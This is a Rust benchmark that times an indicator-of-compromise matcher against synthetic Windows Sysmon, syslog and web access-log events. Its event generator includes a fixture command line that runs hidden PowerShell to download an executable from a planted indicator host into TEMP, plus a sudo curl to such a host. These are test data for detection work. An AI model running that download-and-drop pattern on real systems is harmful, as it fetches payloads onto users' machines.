//! Indicator matching benchmark: 1,000,000 synthetic indicators of every kind, matched against a
//! realistic mix of events (Sysmon/Security EVTX-shaped events with IPs, hashes and command
//! lines; syslog lines; web access-log events), against a naive baseline in the same run.
//!
//! ```sh
//! cargo run --release -p canhgac-detect --example ioc_bench -- [INDICATORS] [EVENTS] [PASSES] [--dump DIR]
//! ```
//! `--dump DIR` also writes `DIR/indicators.txt` (one value per line) and `DIR/events.txt` (one
//! event's text per line) for an outside baseline such as `grep -F -f` (see `bench/ioc.sh`).

use std::collections::HashSet;
use std::hint::black_box;
use std::io::Write;
use std::time::Instant;

use canhgac_detect::IndicatorSet;
use canhgac_model::{Event, EventKind, FieldValue, Indicator, IndicatorKind, Severity, Timestamp};

/// xorshift64*: reproducible without a dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn hex(&mut self, len: usize) -> String {
        (0..len)
            .map(|_| char::from(b"0123456789abcdef"[self.below(16) as usize]))
            .collect()
    }
    fn word(&mut self, len: usize) -> String {
        (0..len)
            .map(|_| char::from(b'a' + self.below(26) as u8))
            .collect()
    }
    fn ip4(&mut self) -> String {
        let v = self.next() as u32;
        std::net::Ipv4Addr::from(v).to_string()
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }
}

const TLDS: &[&str] = &[
    "com", "net", "org", "vn", "ru", "cn", "info", "xyz", "top", "io",
];

fn generate_indicators(n: usize, rng: &mut Rng) -> Vec<Indicator> {
    let now = Timestamp::now();
    (0..n)
        .map(|i| {
            let roll = rng.below(100);
            let (kind, value) = match roll {
                0..=24 => (IndicatorKind::Ip, rng.ip4()),
                25..=27 => (
                    IndicatorKind::Ip,
                    format!("2001:db8:{:x}::{:x}", rng.below(65536), rng.below(65536)),
                ),
                28..=35 => {
                    // Feeds list mostly single hosts and /24s, a few wide blocks.
                    let len =
                        [20, 22, 24, 24, 24, 24, 28, 29, 30, 32, 32, 32][rng.below(12) as usize];
                    (IndicatorKind::Cidr, format!("{}/{len}", rng.ip4()))
                }
                36..=37 => (
                    IndicatorKind::Cidr,
                    format!("2001:db8:{:x}::/48", rng.below(65536)),
                ),
                38..=64 => {
                    let labels = 1 + rng.below(2) as usize;
                    let mut name: Vec<String> = (0..labels)
                        .map(|_| {
                            let len = 4 + rng.below(10) as usize;
                            rng.word(len)
                        })
                        .collect();
                    name.push(rng.pick(TLDS).to_string());
                    (IndicatorKind::Domain, name.join("."))
                }
                65..=72 => {
                    let host = format!("{}.{}", rng.word(8), rng.pick(TLDS));
                    let path = rng.word(6);
                    (IndicatorKind::Url, format!("http://{host}/{path}.php"))
                }
                73..=80 => (IndicatorKind::Md5, rng.hex(32)),
                81..=86 => (IndicatorKind::Sha1, rng.hex(40)),
                87..=95 => (IndicatorKind::Sha256, rng.hex(64)),
                _ => (
                    IndicatorKind::Email,
                    format!("{}@{}.{}", rng.word(7), rng.word(6), rng.pick(TLDS)),
                ),
            };
            Indicator {
                id: i as i64 + 1,
                kind,
                value,
                source: "bench-feed".to_string(),
                description: String::new(),
                severity: Severity::High,
                tags: Vec::new(),
                expires_at: (rng.below(10) == 0)
                    .then(|| now + jiff::SignedDuration::from_hours(24)),
                created_at: now,
                meta: Default::default(),
            }
        })
        .collect()
}

/// One in `hit_every` events carries an indicator value somewhere.
fn generate_events(
    n: usize,
    indicators: &[Indicator],
    rng: &mut Rng,
    hit_every: u64,
) -> Vec<Event> {
    let hosts = [
        "ws-ketoan-01",
        "srv-web-02",
        "dc01.hbx.gov.vn",
        "ws-vanthu-07",
    ];
    let images = [
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\explorer.exe",
    ];
    let mut events = Vec::with_capacity(n);
    for _ in 0..n {
        let planted = (rng.below(hit_every) == 0).then(|| {
            indicators[rng.below(indicators.len() as u64) as usize]
                .value
                .clone()
        });
        let internal = format!(
            "10.{}.{}.{}",
            rng.below(256),
            rng.below(256),
            rng.below(256)
        );
        let remote = planted
            .clone()
            .filter(|v| v.parse::<std::net::IpAddr>().is_ok())
            .unwrap_or_else(|| rng.ip4());
        let domain = planted
            .clone()
            .filter(|v| !v.contains('/') && v.contains('.') && !v.contains('@'))
            .unwrap_or_else(|| format!("{}.{}.com", rng.word(5), rng.word(8)));
        let roll = rng.below(10);
        let mut event;
        if roll < 4 {
            event = Event::new(EventKind::Evtx, String::new());
            let f = &mut event.fields;
            let host = rng.pick(&hosts);
            let sysmon = rng.below(4);
            let eid: i64 = [1, 3, 22, 4624][sysmon as usize];
            f.push("EventID", eid);
            f.push(
                "Channel",
                if eid == 4624 {
                    "Security"
                } else {
                    "Microsoft-Windows-Sysmon/Operational"
                },
            );
            f.push("Provider_Name", "Microsoft-Windows-Sysmon");
            f.push("Computer", host);
            f.push("Level", 4i64);
            f.push("Task", 1i64);
            f.push("Keywords", "0x8000000000000000");
            f.push("EventRecordID", rng.below(1 << 30) as i64);
            f.push("TimeCreated", "2026-11-26T01:02:03.456789Z");
            f.push("UtcTime", "2026-11-26 01:02:03.456");
            f.push(
                "ProcessGuid",
                format!(
                    "{{{}-{}-{}-{}-{}}}",
                    rng.hex(8),
                    rng.hex(4),
                    rng.hex(4),
                    rng.hex(4),
                    rng.hex(12)
                ),
            );
            f.push("ProcessId", rng.below(60000).to_string());
            let image = rng.pick(&images);
            f.push("Image", image);
            match eid {
                1 => {
                    f.push("FileVersion", "10.0.19041.746 (WinBuild.160101.0800)");
                    f.push("Description", "Windows Command Processor");
                    f.push("Product", "Microsoft® Windows® Operating System");
                    f.push("Company", "Microsoft Corporation");
                    f.push("OriginalFileName", "Cmd.Exe");
                    let cmd = match &planted {
                        Some(v) => format!("{image} /c powershell -nop -w hidden -c \"iwr {v} -OutFile $env:TEMP\\a.exe\""),
                        None => format!("{image} /c echo {} > C:\\Users\\Public\\{}.txt && ping -n 1 {}", rng.word(6), rng.word(5), internal),
                    };
                    f.push("CommandLine", cmd);
                    f.push("CurrentDirectory", "C:\\Windows\\system32\\");
                    f.push("User", "HBX\\nguyen.van.a");
                    f.push(
                        "LogonGuid",
                        format!("{{{}-0000-0000-0000-000000000000}}", rng.hex(8)),
                    );
                    f.push("LogonId", "0x3e7");
                    f.push("TerminalSessionId", "1");
                    f.push("IntegrityLevel", "High");
                    let md5 = planted
                        .clone()
                        .filter(|v| v.len() == 32)
                        .unwrap_or_else(|| rng.hex(32));
                    f.push(
                        "Hashes",
                        format!(
                            "SHA1={},MD5={},SHA256={},IMPHASH={}",
                            rng.hex(40).to_uppercase(),
                            md5.to_uppercase(),
                            rng.hex(64).to_uppercase(),
                            rng.hex(32).to_uppercase()
                        ),
                    );
                    f.push(
                        "ParentProcessGuid",
                        format!("{{{}-0000-0000-0000-000000000000}}", rng.hex(8)),
                    );
                    f.push("ParentProcessId", rng.below(60000).to_string());
                    f.push("ParentImage", "C:\\Windows\\explorer.exe");
                    f.push("ParentCommandLine", "C:\\Windows\\Explorer.EXE");
                }
                3 => {
                    f.push("User", "NT AUTHORITY\\SYSTEM");
                    f.push("Protocol", "tcp");
                    f.push("Initiated", "true");
                    f.push("SourceIsIpv6", "false");
                    f.push("SourceIp", internal.as_str());
                    f.push("SourceHostname", format!("{host}.hbx.gov.vn"));
                    f.push("SourcePort", rng.below(65535).to_string());
                    f.push("DestinationIsIpv6", "false");
                    f.push("DestinationIp", remote.as_str());
                    f.push("DestinationHostname", "-");
                    f.push("DestinationPort", "443");
                    f.push("DestinationPortName", "https");
                }
                22 => {
                    f.push("QueryName", domain.as_str());
                    f.push("QueryStatus", "0");
                    f.push("QueryResults", format!("::ffff:{remote};"));
                }
                _ => {
                    f.push("SubjectUserSid", "S-1-5-18");
                    f.push("TargetUserName", "nguyen.van.a");
                    f.push("TargetDomainName", "HBX");
                    f.push("LogonType", "10");
                    f.push("LogonProcessName", "User32");
                    f.push("AuthenticationPackageName", "Negotiate");
                    f.push("WorkstationName", host.to_uppercase());
                    f.push("IpAddress", remote.as_str());
                    f.push("IpPort", rng.below(65535).to_string());
                }
            }
        } else if roll < 8 {
            let program = rng.pick(&["sshd", "CRON", "kernel", "postfix/smtpd", "sudo"]);
            let msg = match program {
                "sshd" => format!("Failed password for invalid user {} from {remote} port {} ssh2", rng.word(5), rng.below(65535)),
                "CRON" => format!("(root) CMD (/usr/local/bin/backup.sh --target {} >/dev/null 2>&1)", domain),
                "kernel" => format!("[UFW BLOCK] IN=eth0 OUT= MAC=00:16:3e:{}:{}:{} SRC={remote} DST={internal} LEN=60 TTL=52 PROTO=TCP SPT=443 DPT={}", rng.hex(2), rng.hex(2), rng.hex(2), rng.below(65535)),
                "postfix/smtpd" => format!("NOQUEUE: reject: RCPT from unknown[{remote}]: 554 5.7.1 <{}@{}>: Relay access denied; from=<{}> to=<admin@hbx.gov.vn> proto=ESMTP helo=<{domain}>", rng.word(5), domain, planted.clone().filter(|v| v.contains('@')).unwrap_or_else(|| format!("x@{domain}"))),
                _ => format!("nguyen.van.a : TTY=pts/0 ; PWD=/home/nguyen.van.a ; USER=root ; COMMAND=/usr/bin/curl -s {}", planted.clone().unwrap_or_else(|| format!("https://{domain}/update"))),
            };
            event = Event::new(EventKind::Syslog3164, msg.clone());
            let f = &mut event.fields;
            f.push("facility", "auth");
            f.push("severity", "info");
            f.push("hostname", rng.pick(&hosts));
            f.push("program", program);
            f.push("pid", rng.below(60000).to_string());
            f.push("msg", msg);
        } else {
            let uri = format!("/portal/{}/{}.php", rng.word(6), rng.word(4));
            let query = format!("id={}&lang=vi", rng.below(100000));
            let line = format!(
                "{remote} - - [26/Nov/2026:08:02:03 +0700] \"GET {uri}?{query} HTTP/1.1\" 200 {} \"{}\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36\"",
                rng.below(100000),
                planted.clone().filter(|v| v.starts_with("http")).unwrap_or_else(|| "https://www.google.com/".to_string())
            );
            event = Event::new(EventKind::AccessLog, line);
            let f = &mut event.fields;
            f.push("c-ip", remote.as_str());
            f.push("cs-method", "GET");
            f.push("cs-uri-stem", uri.as_str());
            f.push("cs-uri-query", query.as_str());
            f.push("c-uri", format!("{uri}?{query}"));
            f.push("cs-version", "HTTP/1.1");
            f.push("sc-status", 200i64);
            f.push("sc-bytes", rng.below(100000) as i64);
            f.push("cs-referer", "https://dichvucong.hbx.gov.vn/");
            f.push("cs-user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36");
            f.push("cs-host", "dichvucong.hbx.gov.vn");
        }
        events.push(event);
    }
    events
}

/// CPU time of this thread in nanoseconds (the machine may be shared: wall time lies).
fn cpu_ns() -> u128 {
    std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()
        .and_then(|s| s.split_whitespace().next().and_then(|v| v.parse().ok()))
        .unwrap_or(0)
}

/// Runs `f`, returning (wall ns, CPU ns).
fn timed(f: impl FnOnce()) -> (f64, f64) {
    let wall = Instant::now();
    let cpu = cpu_ns();
    f();
    ((wall.elapsed().as_nanos()) as f64, (cpu_ns() - cpu) as f64)
}

fn rss_kib(key: &str) -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with(key))
                .and_then(|l| l.split_whitespace().nth(1).and_then(|v| v.parse().ok()))
        })
        .unwrap_or(0)
}

/// The naive baseline: every whitespace token of every string value in one HashSet<String>
/// of all indicator values (exact tokens only: no CIDR, no subdomain, no Hashes field parsing).
fn naive(set: &HashSet<String>, event: &Event) -> usize {
    let mut hits = 0;
    let mut scan = |text: &str| {
        for token in text.split_whitespace() {
            if set.contains(token) {
                hits += 1;
            }
        }
    };
    for (_, value) in event.fields.iter() {
        if let FieldValue::Str(s) = value {
            scan(s);
        }
    }
    if event.kind == EventKind::Raw {
        scan(&event.message);
    }
    hits
}

fn event_text(event: &Event) -> String {
    let mut parts = Vec::new();
    for (_, value) in event.fields.iter() {
        if let FieldValue::Str(s) = value {
            parts.push(s.replace('\n', " "));
        }
    }
    parts.join(" ")
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let dump = args
        .iter()
        .position(|a| a == "--dump")
        .and_then(|i| args.get(i + 1).cloned());
    let numbers: Vec<usize> = args
        .iter()
        .take_while(|a| *a != "--dump")
        .filter_map(|a| a.replace('_', "").parse().ok())
        .collect();
    let n_indicators = numbers.first().copied().unwrap_or(1_000_000);
    let n_events = numbers.get(1).copied().unwrap_or(20_000);
    let passes = numbers.get(2).copied().unwrap_or(25);
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);

    let rss0 = rss_kib("VmRSS:");
    let indicators = generate_indicators(n_indicators, &mut rng);
    let rss_list = rss_kib("VmRSS:");
    let values: Vec<String> = indicators.iter().map(|i| i.value.clone()).collect();
    let mut events = generate_events(n_events, &indicators, &mut rng, 100);
    // IOC_BENCH_KIND=evtx (syslog3164, access_log) keeps one kind, for profiling.
    if let Ok(kind) = std::env::var("IOC_BENCH_KIND") {
        events.retain(|e| e.kind.code() == kind);
    }
    let n_events = events.len();

    let started = Instant::now();
    let set = IndicatorSet::new(indicators);
    let build = started.elapsed();
    let rss_set = rss_kib("VmRSS:");
    println!(
        "indicators: {} indexed, {} rejected; build {:.2} s; RSS: indicator list {} MiB, after IndicatorSet::new {} MiB (+{} MiB of index)",
        set.len(),
        set.rejected().len(),
        build.as_secs_f64(),
        (rss_list - rss0) / 1024,
        (rss_set - rss0) / 1024,
        (rss_set.saturating_sub(rss_list)) / 1024,
    );

    let mut by_kind = std::collections::BTreeMap::new();
    for event in &events {
        *by_kind.entry(event.kind.code()).or_insert(0usize) += 1;
    }
    println!("events: {n_events} ({by_kind:?}), {passes} passes");

    // Matching.
    let mut out = Vec::new();
    let mut hits = 0usize;
    let now = Timestamp::now();
    // Warm-up pass.
    for event in &events {
        out.clear();
        set.matches_at(event, now, &mut out);
    }
    // The best of three runs: other processes on the machine only ever add time.
    let (mut wall, mut cpu) = (f64::MAX, f64::MAX);
    for _ in 0..3 {
        hits = 0;
        let (w, c) = timed(|| {
            for _ in 0..passes {
                for event in &events {
                    out.clear();
                    set.matches(black_box(event), &mut out);
                    hits += out.len();
                }
            }
        });
        wall = wall.min(w);
        cpu = cpu.min(c);
    }
    let total = (passes * n_events) as f64;
    let ours = cpu / total;
    println!(
        "IndicatorSet::matches: {ours:.0} ns/event CPU, best of 3 ({:.0} wall) ({} hits per pass, {:.2}% of events)",
        wall / total,
        hits / passes.max(1),
        100.0 * (hits / passes.max(1)) as f64 / n_events as f64
    );
    let mut per_kind = std::collections::BTreeMap::new();
    {
        use std::hash::{BuildHasher, RandomState};
        let state = RandomState::new();
        let mut covered = 0;
        for i in 0..100_000u64 {
            let ip = std::net::Ipv4Addr::from(state.hash_one(i) as u32).to_string();
            out.clear();
            set.matches_text(&ip, "x", now, &mut out);
            covered += usize::from(!out.is_empty());
        }
        println!(
            "  random IPv4 addresses inside some indicator: {:.2}%",
            covered as f64 / 1000.0
        );
    }
    // In the live path the event was just decoded and matched by Sigma: it is in the cache.
    // Here the events are cold (more than the cache holds), so the same pass is timed once
    // touching every event's bytes only, and once touching then matching: the difference is
    // the cost of matching a warm event.
    let touch = |event: &Event| -> u64 {
        let mut sum = 0u64;
        for (_, value) in event.fields.iter() {
            if let FieldValue::Str(s) = value {
                sum += s
                    .as_bytes()
                    .iter()
                    .step_by(32)
                    .map(|&b| u64::from(b))
                    .sum::<u64>();
            }
        }
        sum + event
            .message
            .as_bytes()
            .iter()
            .step_by(32)
            .map(|&b| u64::from(b))
            .sum::<u64>()
    };
    let (_, touch_only) = timed(|| {
        for _ in 0..passes {
            for event in &events {
                black_box(touch(black_box(event)));
            }
        }
    });
    let (_, touch_match) = timed(|| {
        for _ in 0..passes {
            for event in &events {
                black_box(touch(black_box(event)));
                out.clear();
                set.matches(black_box(event), &mut out);
            }
        }
    });
    let warm = (touch_match - touch_only) / total;
    println!(
        "IndicatorSet::matches on warm events (touch+match minus touch): {warm:.0} ns/event CPU"
    );
    let mut by_hit = std::collections::BTreeMap::new();
    for event in &events {
        out.clear();
        set.matches(event, &mut out);
        for hit in &out {
            *by_hit
                .entry(format!("{}:{}", hit.indicator.kind, hit.field))
                .or_insert(0usize) += 1;
        }
    }
    println!("  hits by indicator kind and field: {by_hit:?}");
    for kind in [EventKind::Evtx, EventKind::Syslog3164, EventKind::AccessLog] {
        let of_kind: Vec<&Event> = events.iter().filter(|e| e.kind == kind).collect();
        let (_, cpu) = timed(|| {
            for _ in 0..passes {
                for event in &of_kind {
                    out.clear();
                    set.matches(black_box(event), &mut out);
                }
            }
        });
        per_kind.insert(kind.code(), cpu / (passes * of_kind.len().max(1)) as f64);
    }
    for (kind, nanos) in per_kind {
        println!("  {kind:>11}: {nanos:.0} ns/event CPU");
    }

    // Baseline.
    let started = Instant::now();
    let naive_set: HashSet<String> = values.into_iter().collect();
    let naive_build = started.elapsed();
    let rss_naive = rss_kib("VmRSS:");
    let mut naive_hits = 0;
    for event in &events {
        naive_hits += naive(&naive_set, event);
    }
    let mut cpu = f64::MAX;
    for _ in 0..3 {
        let (_, c) = timed(|| {
            for _ in 0..passes {
                for event in &events {
                    naive_hits += naive(&naive_set, black_box(event));
                }
            }
        });
        cpu = cpu.min(c);
    }
    let baseline = cpu / total;
    println!(
        "baseline HashSet<String> over whitespace tokens: build {:.2} s, +{} MiB, {baseline:.0} ns/event CPU, best of 3 ({} hits per pass: exact tokens only)",
        naive_build.as_secs_f64(),
        rss_naive.saturating_sub(rss_set) / 1024,
        naive_hits / (3 * passes + 1),
    );
    let (_, touch_naive) = timed(|| {
        for _ in 0..passes {
            for event in &events {
                black_box(touch(black_box(event)));
                naive_hits += naive(&naive_set, black_box(event));
            }
        }
    });
    let naive_warm = (touch_naive - touch_only) / total;
    println!("baseline on warm events: {naive_warm:.0} ns/event CPU");
    println!(
        "ratio IndicatorSet / baseline: {:.2} (warm events: {:.2}); peak RSS {} MiB",
        ours / baseline,
        warm / naive_warm,
        rss_kib("VmHWM:") / 1024
    );

    if let Some(dir) = dump {
        std::fs::create_dir_all(&dir)?;
        let mut file =
            std::io::BufWriter::new(std::fs::File::create(format!("{dir}/indicators.txt"))?);
        for value in naive_set.iter() {
            writeln!(file, "{value}")?;
        }
        file.flush()?;
        let mut file = std::io::BufWriter::new(std::fs::File::create(format!("{dir}/events.txt"))?);
        for event in &events {
            writeln!(file, "{}", event_text(event))?;
        }
        file.flush()?;
        println!("wrote {dir}/indicators.txt and {dir}/events.txt");
    }
    Ok(())
}
